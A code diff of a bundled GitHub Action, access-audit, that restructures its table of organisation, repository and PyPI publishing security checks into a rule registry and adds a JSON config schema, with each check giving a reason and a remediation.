@@ -25422,458 +25503,462 @@ const prScan = {
 var p_limit = __nccwpck_require__(8890);
 var p_limit_default = /*#__PURE__*/__nccwpck_require__.n(p_limit);
 ;// CONCATENATED MODULE: ./actions/access-audit/src/rules.ts
-const rules_rule = (r) => r;
-const src_rules_RULES = {
-    orgTwoFactor: rules_rule({
+// The checks of access-audit. Findings about settings carry no location; the
+// repository, environment or person they concern is in the message and in
+// `properties`. The publish/* findings point at the repository's workflow file
+// and line.
+
+const src_rules_RULES = defineRules({
+    orgTwoFactor: {
         id: 'org/2fa-not-required',
         title: 'Organization does not require two-factor authentication',
         severity: 'high',
         why: "Without required 2FA a single phished password gives an attacker the member's access to every repository and release credential.",
         remediation: 'Organization settings → Authentication security → "Require two-factor authentication for everyone". Members without 2FA are removed, so warn them first.',
         spec: ['S6-11']
-    }),
-    memberNo2fa: rules_rule({
+    },
+    memberNo2fa: {
         id: 'org/member-without-2fa',
         title: 'Member or outside collaborator without two-factor authentication',
         severity: 'high',
         why: 'An account with access to the organization but no second factor is protected by its password alone.',
         remediation: 'Ask the person to enable 2FA (a hardware key or an authenticator app), or remove their access until they do.',
         spec: ['S6-11']
-    }),
-    memberInsecure2fa: rules_rule({
+    },
+    memberInsecure2fa: {
         id: 'org/member-insecure-2fa',
         title: 'Member or outside collaborator uses SMS as second factor',
         severity: 'medium',
         why: 'SMS codes can be intercepted through SIM swapping; GitHub classes SMS as insecure 2FA.',
         remediation: 'Ask the person to switch to a security key, passkey or authenticator app and remove SMS.',
         spec: ['S6-11']
-    }),
-    tooFewOwners: rules_rule({
+    },
+    tooFewOwners: {
         id: 'org/too-few-owners',
         title: 'Organization has fewer than two owners',
         severity: 'medium',
         why: 'With a single owner, the organization is lost (or held hostage) when that person is unavailable.',
         remediation: 'Promote a second trusted maintainer to owner and document who the owners are.',
         spec: ['S6-6']
-    }),
-    tooManyOwners: rules_rule({
+    },
+    tooManyOwners: {
         id: 'org/too-many-owners',
         title: 'Organization has many owners',
         severity: 'low',
         why: 'Every owner can change any setting and reach every secret; each extra owner widens the attack surface.',
         remediation: 'Keep two to a few owners; give others maintain or admin on the repositories they work on.',
         spec: ['S6-2']
-    }),
-    defaultPermission: rules_rule({
+    },
+    defaultPermission: {
         id: 'org/default-permission-too-broad',
         title: 'Organization base permission grants write or admin',
         severity: 'high',
         why: 'The base permission applies to every member on every repository, so each member can push to all of them.',
         remediation: 'Organization settings → Member privileges → Base permissions: "Read" or "No permission"; grant write through teams.',
         spec: ['S6-2']
-    }),
-    actionsTokenWrite: rules_rule({
+    },
+    actionsTokenWrite: {
         id: 'org/actions-token-write',
         title: 'Workflows get a read-write GITHUB_TOKEN by default',
         severity: 'high',
         why: 'Every workflow without a `permissions:` block can push code, create releases and edit issues; one injected step is enough.',
         remediation: 'Organization settings → Actions → General → Workflow permissions: "Read repository contents and packages permissions"; grant write per job.',
         spec: ['S8-6']
-    }),
-    actionsApprovePrs: rules_rule({
+    },
+    actionsApprovePrs: {
         id: 'org/actions-can-approve-prs',
         title: 'GitHub Actions may create and approve pull requests',
         severity: 'medium',
         why: 'A workflow token that can approve pull requests satisfies a required review without a human.',
         remediation: 'Untick "Allow GitHub Actions to create and approve pull requests" in the organization Actions settings.',
         spec: ['S8-6']
-    }),
-    actionsAllAllowed: rules_rule({
+    },
+    actionsAllAllowed: {
         id: 'org/actions-all-allowed',
         title: 'Any action from any owner may run',
         severity: 'low',
         why: "Without an allow list, a typo or a compromised third-party action runs with the workflow's token and secrets.",
         remediation: 'Allow GitHub-owned, verified-creator and a listed set of actions (Actions → General → Policies).',
         spec: ['S8-7']
-    }),
-    actionsShaPinning: rules_rule({
+    },
+    actionsShaPinning: {
         id: 'org/actions-sha-pinning-not-required',
         title: 'Actions are not required to be pinned to a full commit SHA',
         severity: 'low',
         why: 'A tag can be moved to malicious code; only a full SHA pins what runs.',
         remediation: 'Tick "Require actions to be pinned to a full-length commit SHA" in the organization Actions policy (and pin existing workflows first).',
         spec: ['S8-9']
-    }),
-    forkPrApproval: rules_rule({
+    },
+    forkPrApproval: {
         id: 'org/fork-pr-approval-weak',
         title: 'Workflows from fork pull requests run without approval for most outside contributors',
         severity: 'medium',
         why: 'With "first-time contributors new to GitHub" only brand-new accounts need approval; anyone with an older account can open a pull request whose workflow runs at once, which is how cache poisoning and self-hosted runner attacks start.',
         remediation: 'Organization settings → Actions → General → "Approval for running fork pull request workflows from contributors": require approval for all external contributors (or at least first-time contributors).',
         spec: ['S8-16']
-    }),
-    forkPrPrivate: rules_rule({
+    },
+    forkPrPrivate: {
         id: 'org/fork-pr-private-repos',
         title: 'Fork pull requests on private repositories get secrets or a write token',
         severity: 'high',
         why: 'A workflow started by a fork pull request runs code its author wrote; with secrets or a write token it can read the secrets or push to the repository.',
         remediation: 'Organization settings → Actions → General → "Fork pull request workflows in private repositories": untick "Send write tokens" and "Send secrets and variables", and tick "Require approval for fork pull request workflows".',
         spec: ['S8-6', 'S8-16']
-    }),
-    appBroadWrite: rules_rule({
+    },
+    appBroadWrite: {
         id: 'org/app-broad-write',
         title: 'GitHub App installed on every repository with write access to code or settings',
         severity: 'low',
         why: 'An App installed on all repositories with write to contents, workflows, administration or secrets can change every project at once; a compromise of the App vendor becomes a compromise of the organization.',
         remediation: 'Limit the installation to the repositories that need it (Organization settings → GitHub Apps → Configure → Only select repositories), or ask the vendor for narrower permissions; list approved Apps in `access-audit.allowed-apps`.',
         spec: ['S6-2']
-    }),
-    tokenNoExpiry: rules_rule({
+    },
+    tokenNoExpiry: {
         id: 'org/token-no-expiry',
         title: 'Fine-grained personal access token with organization access never expires',
         severity: 'medium',
         why: 'A token that never expires keeps working long after its owner stopped needing it, or after it leaked.',
         remediation: 'Revoke the grant (Organization settings → Personal access tokens → Active tokens) and ask the owner for a token with an expiry (a year at most); set the organization policy "Enforce maximum lifetime".',
         spec: ['S6-4']
-    }),
-    tokenLongLived: rules_rule({
+    },
+    tokenLongLived: {
         id: 'org/token-long-lived',
         title: 'Fine-grained personal access token valid for more than a year',
         severity: 'low',
         why: 'SPEC 6 asks tokens to expire after a reasonable time, typically a year; longer lifetimes widen the window in which a leaked token works.',
         remediation: "Ask the owner to replace it with a token that expires within a year, and set the organization's maximum token lifetime.",
         spec: ['S6-4']
-    }),
-    tokenUnused: rules_rule({
+    },
+    tokenUnused: {
         id: 'org/token-unused',
         title: 'Fine-grained personal access token with organization access is not used',
         severity: 'low',
         why: 'An unused token gives access nobody needs; it can only leak.',
         remediation: 'Revoke the grant in Organization settings → Personal access tokens → Active tokens.',
         spec: ['S6-4', 'S6-3']
-    }),
-    webhookInsecure: rules_rule({
+    },
+    webhookInsecure: {
         id: 'org/webhook-insecure',
         title: 'Organization webhook delivers over plain HTTP or without certificate checks',
         severity: 'medium',
         why: 'Webhook payloads describe pushes, members and repositories; sent without TLS verification they can be read or altered on the way.',
         remediation: 'Use an https:// URL and turn SSL verification on (Organization settings → Webhooks → Edit).',
         spec: ['S6-4']
-    }),
-    webhookNoSecret: rules_rule({
+    },
+    webhookNoSecret: {
         id: 'org/webhook-no-secret',
         title: 'Organization webhook has no secret',
         severity: 'low',
         why: "Without a secret the receiver cannot tell GitHub's deliveries from forged ones; anyone who learns the URL can trigger it.",
         remediation: 'Set a random secret on the webhook and verify the X-Hub-Signature-256 header in the receiver.',
         spec: ['S6-4']
-    }),
-    runnerGroupPublic: rules_rule({
+    },
+    runnerGroupPublic: {
         id: 'org/runner-group-public',
         title: 'Self-hosted runners are available to public repositories',
         severity: 'high',
         why: "Anyone can open a pull request on a public repository; its workflow can target the group's runners, run code on the machine and persist there (the PyTorch runner compromise).",
         remediation: 'Untick "Allow public repositories" on the runner group, or use ephemeral, isolated runners and require approval for all outside contributors.',
         spec: ['S8-16']
-    }),
-    branchUnprotected: rules_rule({
+    },
+    branchUnprotected: {
         id: 'repo/branch-unprotected',
         title: 'Default or release branch is not protected',
         severity: 'high',
         why: 'An unprotected branch can be rewritten or deleted by anyone with write access, including a stolen token, and releases are cut from it.',
         remediation: 'Add a branch ruleset (Settings → Rules → Rulesets) targeting the default branch and release/* that blocks force pushes and deletion and requires a pull request.',
         spec: ['S8-5']
-    }),
-    noReview: rules_rule({
+    },
+    noReview: {
         id: 'repo/review-not-required',
         title: 'Branch does not require an approving review',
         severity: 'medium',
         why: 'Without a required review one compromised account can land code that the next release ships.',
         remediation: 'In the branch ruleset (or classic protection), require a pull request with at least one approving review.',
         spec: ['S8-5']
-    }),
-    forcePush: rules_rule({
+    },
+    forcePush: {
         id: 'repo/force-push-allowed',
         title: 'Force pushes are allowed on a protected branch',
         severity: 'high',
         why: 'A force push rewrites history silently; released commits can be replaced.',
         remediation: 'Add the "Block force pushes" rule to the branch ruleset (or untick "Allow force pushes" in classic protection).',
         spec: ['S8-5']
-    }),
-    deletion: rules_rule({
+    },
+    deletion: {
         id: 'repo/deletion-allowed',
         title: 'A protected branch can be deleted',
         severity: 'medium',
         why: 'Deleting the branch loses the protection with it and can be used to recreate it with other content.',
         remediation: 'Add the "Restrict deletions" rule to the branch ruleset (or untick "Allow deletions").',
         spec: ['S8-5']
-    }),
-    tagsUnprotected: rules_rule({
+    },
+    tagsUnprotected: {
         id: 'repo/tags-unprotected',
         title: 'Release tags are not protected by a tag ruleset',
         severity: 'low',
         why: 'Anyone with write access can move or delete a release tag, so a tag no longer names what was released.',
         remediation: 'Add a tag ruleset for `v*` that restricts updates and deletions.',
         spec: ['S8-4']
-    }),
-    signedCommits: rules_rule({
+    },
+    signedCommits: {
         id: 'repo/signed-commits-not-required',
         title: 'Default branch does not require signed commits',
         severity: 'low',
         why: 'The organization asked for signed commits on this repository (config `require-signed-commits`); without the rule an unsigned commit, possibly from a stolen account or token, lands unnoticed.',
         remediation: 'Add the "Require signed commits" rule to the branch ruleset (or tick it in classic branch protection).',
         spec: ['S8-4']
-    }),
-    selfHostedPublic: rules_rule({
+    },
+    selfHostedPublic: {
         id: 'repo/self-hosted-runner-public',
         title: 'Public repository runs workflows on self-hosted runners',
         severity: 'high',
         why: "A pull request from anyone can run code on a self-hosted runner of a public repository and persist on the machine; SciPy's release guidance rules self-hosted runners out.",
         remediation: 'Move the jobs to GitHub-hosted runners, or use ephemeral runners with approval required for all outside contributors.',
         spec: ['S8-16']
-    }),
-    secretScanningOff: rules_rule({
+    },
+    secretScanningOff: {
         id: 'repo/secret-scanning-off',
         title: 'Secret scanning is off',
         severity: 'medium',
         why: 'Tokens committed by mistake stay usable until someone notices; secret scanning is free for public repositories and alerts at once.',
         remediation: 'Settings → Code security → Secret Protection: enable secret scanning.',
         spec: ['S6-4']
-    }),
-    pushProtectionOff: rules_rule({
+    },
+    pushProtectionOff: {
         id: 'repo/push-protection-off',
         title: 'Secret scanning push protection is off',
         severity: 'low',
         why: 'Push protection refuses a push that contains a known token format, before the token becomes public.',
         remediation: 'Settings → Code security → Secret Protection: enable push protection.',
         spec: ['S6-4']
-    }),
-    codeScanningOff: rules_rule({
+    },
+    codeScanningOff: {
         id: 'repo/code-scanning-off',
         title: 'No code scanning',
         severity: 'low',
         why: 'Code scanning (CodeQL, zizmor) finds injectable workflows and unsafe code before release; the Scientific Python "core 5" includes it.',
         remediation: 'Settings → Code security → Code scanning: enable CodeQL default setup (it covers Python and GitHub Actions workflows), or add a CodeQL or zizmor workflow.',
         spec: ['S8-16']
-    }),
-    pvrOff: rules_rule({
+    },
+    pvrOff: {
         id: 'repo/private-vulnerability-reporting-off',
         title: 'Private vulnerability reporting is off',
         severity: 'low',
         why: 'Without a private channel, reporters open public issues about vulnerabilities or give up.',
         remediation: 'Settings → Code security → Private vulnerability reporting: enable, and mention it in SECURITY.md.',
         spec: ['S6-1']
-    }),
-    dependabotAlertsOff: rules_rule({
+    },
+    dependabotAlertsOff: {
         id: 'repo/dependabot-alerts-off',
         title: 'Dependabot alerts are off',
         severity: 'medium',
         why: 'Nobody is told when a dependency the project pins gets a known vulnerability or is found to be malware.',
         remediation: 'Settings → Code security → Dependabot alerts: enable (free for all repositories).',
         spec: ['S8-16']
-    }),
-    dependabotSecurityUpdatesOff: rules_rule({
+    },
+    dependabotSecurityUpdatesOff: {
         id: 'repo/dependabot-security-updates-off',
         title: 'Dependabot security updates are off',
         severity: 'low',
         why: 'Security updates open the pull request that fixes a vulnerable dependency, so the fix does not wait for someone to notice the alert.',
         remediation: 'Settings → Code security → Dependabot security updates: enable.',
         spec: ['S8-16']
-    }),
-    dependabotActionsMissing: rules_rule({
+    },
+    dependabotActionsMissing: {
         id: 'repo/dependabot-actions-missing',
         title: 'Dependabot does not update the pinned GitHub Actions',
         severity: 'low',
         why: "SHA-pinned actions do not update themselves; without Dependabot's github-actions updates pins age and miss security fixes, and hand-made updates are not reviewed the same way.",
         remediation: 'Add `.github/dependabot.yml` with a `package-ecosystem: github-actions` entry (grouped, with a cooldown), reviewed like any pull request.',
         spec: ['S8-10']
-    }),
-    singleAdmin: rules_rule({
+    },
+    singleAdmin: {
         id: 'repo/single-maintainer',
         title: 'Fewer than two people can administer the repository',
         severity: 'medium',
         why: 'If the only admin disappears, nobody can rotate secrets, change protection or respond to an incident.',
         remediation: 'Give a second maintainer admin or maintain (preferably through a team) and document who holds it.',
         spec: ['S6-6']
-    }),
-    tooManyAdmins: rules_rule({
+    },
+    tooManyAdmins: {
         id: 'repo/too-many-admins',
         title: 'Many people hold admin on the repository',
         severity: 'low',
         why: 'Admin can disable protection and read environment settings; least privilege keeps it to the few who need it.',
         remediation: 'Lower admins who do not manage settings to maintain or write.',
         spec: ['S6-2']
-    }),
-    outsideWrite: rules_rule({
+    },
+    outsideWrite: {
         id: 'repo/outside-collaborator-write',
         title: 'Outside collaborator with write access or more',
         severity: 'medium',
         why: "Outside collaborators are not covered by the organization's membership review and 2FA requirement history.",
         remediation: 'Confirm the person still needs write access; otherwise lower them to read or remove them (SPEC 6 review).',
         spec: ['S6-2', 'S6-3']
-    }),
-    deployKeyWrite: rules_rule({
+    },
+    deployKeyWrite: {
         id: 'repo/deploy-key-write',
         title: 'Deploy key with write access',
         severity: 'medium',
         why: 'A write deploy key is a never-expiring credential that can push to any branch it is not blocked from; it is not tied to a person.',
         remediation: 'Make the key read-only, replace it with a GitHub App or OIDC, or delete it if unused.',
         spec: ['S6-4']
-    }),
-    deployKeyOld: rules_rule({
+    },
+    deployKeyOld: {
         id: 'repo/deploy-key-old',
         title: 'Deploy key older than a year',
         severity: 'low',
         why: 'Deploy keys never expire; SPEC 6 asks credentials to be replaced after a reasonable time, typically a year, and an old key is often one nobody remembers.',
         remediation: 'Replace the key (or delete it if unused) and note who holds the new one.',
         spec: ['S6-4']
-    }),
-    longLivedToken: rules_rule({
+    },
+    longLivedToken: {
         id: 'repo/long-lived-token-secret',
         title: 'Secret that looks like a long-lived PyPI or API token',
         severity: 'high',
         why: 'A PyPI API token in a repository secret can publish any release from any workflow that reads it; Trusted Publishing makes it unnecessary.',
         remediation: 'Configure PyPI Trusted Publishing for the publish workflow and environment, then delete the secret and revoke the token on PyPI.',
         spec: ['S6-10', 'S8-13']
-    }),
-    noSecurityPolicy: rules_rule({
+    },
+    noSecurityPolicy: {
         id: 'repo/no-security-policy',
         title: 'No SECURITY.md (repository or organization .github)',
         severity: 'low',
         why: 'Without a security policy, reporters do not know how to disclose a vulnerability privately.',
         remediation: "Add SECURITY.md to the organization's `.github` repository (applies to all repositories) or to this repository.",
         spec: ['S6-1']
-    }),
-    envNoReviewers: rules_rule({
+    },
+    envNoReviewers: {
         id: 'env/no-reviewers',
         title: 'Release environment has no required reviewers',
         severity: 'high',
         why: 'Any workflow run allowed into the environment publishes without a human approving it.',
         remediation: 'Environment settings → Required reviewers: add at least two maintainers and tick "Prevent self-review".',
         spec: ['S8-3', 'S8-8']
-    }),
-    envSingleReviewer: rules_rule({
+    },
+    envSingleReviewer: {
         id: 'env/single-reviewer',
         title: 'Release environment has fewer than two distinct reviewers',
         severity: 'medium',
         why: 'With one reviewer, releases stop when that person is away, and self-approval becomes the norm.',
         remediation: 'Add a second maintainer (or a team with two people) as required reviewer.',
         spec: ['S8-3', 'S6-6']
-    }),
-    envSelfReview: rules_rule({
+    },
+    envSelfReview: {
         id: 'env/self-review-allowed',
         title: 'Release environment allows self-review',
         severity: 'medium',
         why: 'The person who triggered the release can approve it, so the second-person check is optional.',
         remediation: 'Tick "Prevent self-review" in the environment settings.',
         spec: ['S8-3']
-    }),
-    envAnyBranch: rules_rule({
+    },
+    envAnyBranch: {
         id: 'env/any-branch',
         title: 'Release environment can be used from any branch',
         severity: 'medium',
         why: 'A workflow on an unreviewed branch can enter the environment and use its secrets or its PyPI Trusted Publisher.',
         remediation: 'Set Deployment branches and tags to "Protected branches" or to release tags only.',
         spec: ['S8-8']
-    }),
-    pypiSingleOwner: rules_rule({
+    },
+    pypiSingleOwner: {
         id: 'pypi/single-owner',
         title: 'PyPI package has a single owner and no PyPI organization',
         severity: 'medium',
         why: 'If the only owner loses their account, nobody can publish fixes, add Trusted Publishers or recover the project.',
         remediation: 'Add a second maintainer as Owner on PyPI (Manage → Collaborators), or move the project to a PyPI organization.',
         spec: ['S6-6']
-    }),
-    pypiNoProvenance: rules_rule({
+    },
+    pypiNoProvenance: {
         id: 'pypi/no-trusted-publishing',
         title: 'Latest PyPI release has no provenance (not published with Trusted Publishing)',
         severity: 'high',
         why: 'A release without provenance was uploaded with a password or API token, which can leak and publish from anywhere.',
         remediation: 'Add a Trusted Publisher for this repository, workflow and environment on PyPI, publish with pypa/gh-action-pypi-publish, and revoke the API tokens.',
         spec: ['S6-10', 'S8-13']
-    }),
-    pypiPublisherMismatch: rules_rule({
+    },
+    pypiPublisherMismatch: {
         id: 'pypi/publisher-mismatch',
         title: 'Latest PyPI release was published from another repository or without an environment',
         severity: 'high',
         why: 'The Trusted Publisher decides who can publish; one outside this repository, or without a protected environment, bypasses its reviews.',
         remediation: 'On PyPI, keep only the Trusted Publisher for this repository with its release environment; remove the others.',
         spec: ['S8-8', 'S8-13']
-    }),
-    publishTrigger: rules_rule({
+    },
+    publishTrigger: {
         id: 'publish/trigger',
         title: 'Publishing workflow starts on an event nobody chose to release on',
         severity: 'high',
         why: "A push, a schedule, another workflow's run or a pull_request_target event can publish a release without the release team deciding to; one pushed commit (or a fork's pull request) becomes a release.",
         remediation: "Start the publishing workflow on `release: types: [published]` or `workflow_dispatch` only; keep other triggers in a separate workflow, or guard the publish job with `if: github.event_name == 'release'`.",
         spec: ['S8-2']
-    }),
-    publishNoEnvironment: rules_rule({
+    },
+    publishNoEnvironment: {
         id: 'publish/no-environment',
         title: 'Publish job does not run in an environment',
         severity: 'high',
         why: 'Without an environment no required reviewer approves the upload and no deployment-branch policy limits where it runs; a PyPI Trusted Publisher bound to an environment cannot be required either.',
         remediation: 'Add `environment: pypi` (with required reviewers and a tag or branch policy) to the publish job, and name that environment in the PyPI Trusted Publisher.',
         spec: ['S8-8']
-    }),
-    publishPassword: rules_rule({
+    },
+    publishPassword: {
         id: 'publish/password',
         title: 'Publish job uses a password or long-lived token',
         severity: 'high',
         why: 'A PyPI token in a secret can be read by any step of any workflow that is given it and publishes from anywhere until revoked; Trusted Publishing needs no stored credential.',
         remediation: 'Configure a PyPI Trusted Publisher for this workflow and environment, remove `password:` / `TWINE_PASSWORD` / the token secret from the workflow, give the publish job `id-token: write`, then delete the secret and revoke the token on PyPI.',
         spec: ['S6-10', 'S8-13']
-    }),
-    publishIdTokenScope: rules_rule({
+    },
+    publishIdTokenScope: {
         id: 'publish/id-token-scope',
         title: '`id-token: write` granted beyond the publish job',
         severity: 'medium',
         why: 'An OIDC token is what PyPI Trusted Publishing trusts; a job that builds or tests with `id-token: write` can mint one and publish from code that was never meant to.',
         remediation: 'Keep `permissions: contents: read` at the workflow level and grant `id-token: write` only on the publish job (and on a job that only signs or attests).',
         spec: ['S8-13']
-    }),
-    publishUnpinned: rules_rule({
+    },
+    publishUnpinned: {
         id: 'publish/unpinned-action',
         title: 'Action in a publishing workflow is not pinned to a commit SHA',
         severity: 'medium',
         why: 'A tag or branch can be moved to new code; in the publishing workflow that code runs next to the release artifacts and the OIDC token.',
         remediation: 'Pin to the full 40-character commit SHA with the version as a comment (`uses: owner/action@<sha> # v1.2.3`), and let Dependabot update it.',
         spec: ['S8-9']
-    }),
-    publishCache: rules_rule({
+    },
+    publishCache: {
         id: 'publish/cache-in-release',
         title: 'Release job restores a cache',
         severity: 'medium',
         why: 'Caches are shared with other workflows of the repository, including ones that run pull request code; a poisoned cache ends up in the released files.',
         remediation: 'Remove `actions/cache` and the `cache:` option of setup actions from the jobs that build and publish the release; build from a clean environment.',
         spec: ['S8-15']
-    }),
-    publishNoPrintHash: rules_rule({
+    },
+    publishNoPrintHash: {
         id: 'publish/no-print-hash',
         title: 'Publish step does not print the hashes of what it uploads',
         severity: 'low',
         why: 'Without the hashes in the log nobody can check afterwards that the files on PyPI are the ones the workflow built.',
         remediation: 'Add `print-hash: true` under `with:` of pypa/gh-action-pypi-publish.',
         spec: ['S8-14']
-    }),
-    accessRemoved: rules_rule({
+    },
+    accessRemoved: {
         id: 'people/removed-rotate-secrets',
         title: 'Person lost access: rotate the secrets and deploy keys they could reach',
         severity: 'medium',
         why: 'Someone who had write access could have copied secrets or deploy keys; SPEC 6 asks to rotate what predates their removal.',
         remediation: 'Rotate each listed secret (and revoke the old token at its issuer) and replace each listed deploy key; then the finding disappears at the next run.',
         spec: ['S6-8', 'S6-5']
-    }),
-    inactive: rules_rule({
+    },
+    inactive: {
         id: 'people/possibly-inactive',
         title: 'Person with elevated access shows no recent activity',
         severity: 'low',
         why: 'Dormant accounts with admin or maintain access are attractive targets and rarely noticed when compromised.',
         remediation: 'Follow the SPEC 6 review: ask the person whether they still need the access, then lower it if not. Nobody is removed automatically.',
         spec: ['S6-3', 'S6-8']
-    })
-};
-const ALL_RULES = Object.values(src_rules_RULES);
+    }
+});
+const src_rules_REGISTRY = new RuleRegistry('access-audit', rulesOf(src_rules_RULES));
 
 ;// CONCATENATED MODULE: ./actions/access-audit/src/pypi.ts
 // PyPI side of the audit: who owns each package, and whether its latest
@@ -27041,7 +27126,7 @@ async function audit(api, opts) {
     if (fatal) {
         skip('access-audit', `nothing audited: ${fatal}`, org);
         return {
-            rules: ALL_RULES,
+            rules: src_rules_REGISTRY.list(),
             findings,
             notChecked,
             notes,
@@ -27188,7 +27273,7 @@ async function audit(api, opts) {
     else
         skip('people/removed-rotate-secrets', 'not checked: no previous report given (input previous-report)', org);
     return {
-        rules: ALL_RULES,
+        rules: src_rules_REGISTRY.list(),
         findings,
         notChecked,
         notes,
@@ -27756,9 +27841,13 @@ async function publishDashboard(rest, repository, marker, body) {
     return `dashboard issue #${data.number} opened`;
 }
 
+;// CONCATENATED MODULE: ./actions/access-audit/config.schema.json
+const access_audit_config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","title":"The \'access-audit\' section of .github/security-actions.yml","description":"Settings of access-audit (docs/access-audit.md).","type":"object","additionalProperties":false,"properties":{"exemptions":{"description":"Repositories (or single checks on them) left out of the audit, each with a reason and an expiry.","type":"array","items":{"type":"object","additionalProperties":false,"required":["repo","reason"],"properties":{"repo":{"description":"Repository name or glob; \'*\' also matches organization-level findings.","type":"string","minLength":1},"check":{"description":"Only this check (finding id, e.g. repo/deploy-key-write); absent: the whole repository is not audited.","type":"string","pattern":"^[a-z0-9-]+/[a-z0-9-]+$"},"reason":{"description":"Why; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the exemption applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"packages":{"description":"PyPI packages published from each repository (repository name → package names); repositories not listed are discovered from pyproject.toml.","type":"object","additionalProperties":{"type":"array","items":{"type":"string","minLength":1}}},"max-owners":{"description":"More organization owners than this is reported (default 5).","type":"integer","minimum":2},"max-admins":{"description":"More repository admins than this is reported (default 5).","type":"integer","minimum":2},"token-secret-patterns":{"description":"Regular expressions (case-insensitive) of secret names that look like long-lived publish tokens; replaces the defaults.","type":"array","items":{"type":"string","minLength":1}},"release-environments":{"description":"Regular expression (case-insensitive) of environment names treated as release environments.","type":"string","minLength":1},"allowed-apps":{"description":"GitHub App slugs approved to be installed on all repositories with write access (org/app-broad-write is not reported for them).","type":"array","items":{"type":"string","minLength":1}},"require-signed-commits":{"description":"Repositories (names or globs; true: all) whose default branch must require signed commits (repo/signed-commits-not-required). Default: not checked.","oneOf":[{"type":"boolean"},{"type":"array","items":{"type":"string","minLength":1}}]},"custom-properties":{"description":"Organization custom properties that mark repositories: exempt ones are not audited, critical ones have every finding raised one severity.","type":"object","additionalProperties":false,"properties":{"exempt":{"$ref":"#/definitions/propertyMatch"},"critical":{"$ref":"#/definitions/propertyMatch"}}}},"definitions":{"propertyMatch":{"description":"A custom property and the value (or values) that mark a repository.","type":"object","additionalProperties":false,"required":["property","value"],"properties":{"property":{"type":"string","minLength":1},"value":{"oneOf":[{"type":"string","minLength":1},{"type":"array","minItems":1,"items":{"type":"string","minLength":1}}]}}}}}');
 ;// CONCATENATED MODULE: ./actions/access-audit/src/main.ts
 // access-audit adapter: read inputs and config, build the GitHub client, call
 // the engine (or merge shard reports), and keep one dashboard issue current.
+
+
 
 
 
@@ -27876,6 +27965,8 @@ async function isPublicRepository(ctx, tokens) {
 }
 const src_main_definition = {
     name: 'access-audit',
+    rules: src_rules_REGISTRY,
+    configSchema: access_audit_config_schema_namespaceObject,
     async run(ctx) {
         const { inputs } = ctx;
         const token = inputs.string('token', { required: true });
